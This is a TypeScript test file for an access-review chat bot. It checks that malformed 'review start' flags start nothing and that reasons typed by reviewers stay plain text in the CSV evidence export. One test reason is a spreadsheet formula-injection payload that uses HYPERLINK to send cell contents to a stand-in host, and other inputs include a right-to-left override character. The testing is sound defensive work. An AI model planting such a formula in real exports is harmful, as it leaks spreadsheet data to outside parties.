import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { settle } from '../support/access';
import { startHarness, TestClock, type Harness } from '../support/harness';
import { findById } from '../support/teams-client';
import { sarah, say } from '../technician/support';
import { banner, currentReviewCard, decide, lineOf, parseEvidence, reviewStore } from './reviews-support';

/**
 * `review start` and the reviewer's card against what a technician mistypes and what a
 * reviewer can send: out-of-range and malformed flags start nothing and say why; a reason of
 * blanks is no reason; a reason or a name that a spreadsheet would run stays text in the CSV.
 */

let h: Harness;
const clock = new TestClock('2026-03-02T09:00:00.000Z');

beforeAll(async () => {
  h = await startHarness({}, { clock: clock.now });
  await say(h, sarah(h), 'pending');
});
afterAll(async () => {
  await h?.stop();
});

const thomas = () => h.user('manager');

describe('review start: bad arguments start nothing', () => {
  it('answers each with the problem, starts no campaign and schedules no job', async () => {
    const jobs = () => h.bot.store.jobs.withState('pending').filter((j) => j.kind.startsWith('review.') && j.kind !== 'review.schedule').length;
    const jobsBefore = jobs();
    const lines: Array<[string, RegExp]> = [
      ['review start "Payroll Reports" --due -3d', /--due|due date/],
      ['review start "Payroll Reports" --due 999999d', /--due .* is not a due date/],
      ['review start "Payroll Reports" --due 26w', /--due .* is not a due date/],
      ['review start "Payroll Reports" --due 2.5', /--due .* is not a due date/],
      ['review start "Payroll Reports" --due garbage', /--due .* is not a due date/],
      ['review start "Payroll Reports" --inactive 0', /--inactive takes/],
      ['review start "Payroll Reports" --auto-apply bogus', /--auto-apply takes deny/],
      ['review start "Payroll Reports" --reviewer ghost@northwind.example', /--reviewer/],
      ['review start "Payroll Reports" --reviewer', /reviewer/],
      ['review start "Payroll Reports" --frobnicate', /frobnicate/],
      [`review start "Payroll Reports" --reason ${'x'.repeat(600)}`, /reason/i],
      [`review start "${'A'.repeat(5000)}"`, /./],
      ['review start group "Payroll Reports\u202e"', /./],
    ];
    for (const [line, expected] of lines) {
      const said = await say(h, sarah(h), line);
      const text = said.texts.join('\n');
      expect(said.cards, line).toHaveLength(0);
      expect(text, line).toMatch(expected);
      expect(text, line).not.toMatch(/\bat .*\.(ts|js):\d+|TypeError|undefined|\[object Object\]/);
    }
    expect(reviewStore(h).list(100)).toHaveLength(0);
    expect(jobs()).toBe(jobsBefore);
  });
});

describe('the reviewer’s card: reasons', () => {
  it('a reason of blanks and control characters is no reason; a formula-looking reason is text in the CSV', async () => {
    const said = await say(h, sarah(h), 'review start "Payroll Reports" --reviewer manager --auto-apply none');
    const id = /^(REV-\d+) /.exec(String(findById(said.cards[0], 'review-status-title')?.text ?? ''))![1]!;
    await settle(h);
    const card = currentReviewCard(h, thomas().id, id);
    const jonas = lineOf(card, 'Jonas Weber');
    const refused = await decide(h, thomas(), id, jonas, 'remove', ' \u0000\t\u00a0 \r\n ');
    expect(banner(refused)).toMatch(/^Add a reason to remove Jonas Weber/);
    expect(reviewStore(h).item(jonas)!.decision).toBeNull();
    const done = await decide(h, thomas(), id, jonas, 'remove', '=HYPERLINK("http://x.invalid/?"&A1,"ok")');
    expect(banner(done)).toMatch(/^You removed Jonas Weber/);
    const csv = await say(h, sarah(h), `review report ${id} --csv`);
    const { rows } = parseEvidence(csv.texts);
    const row = rows.find((r) => r.member === 'Jonas Weber')!;
    expect(row.reason).toBe(`'=HYPERLINK("http://x.invalid/?"&A1,"ok")`);
    expect(row.decision).toBe('remove');
    for (const r of rows) for (const v of Object.values(r)) expect(v, JSON.stringify(r)).not.toMatch(/^[=+\-@]/);
  });
});
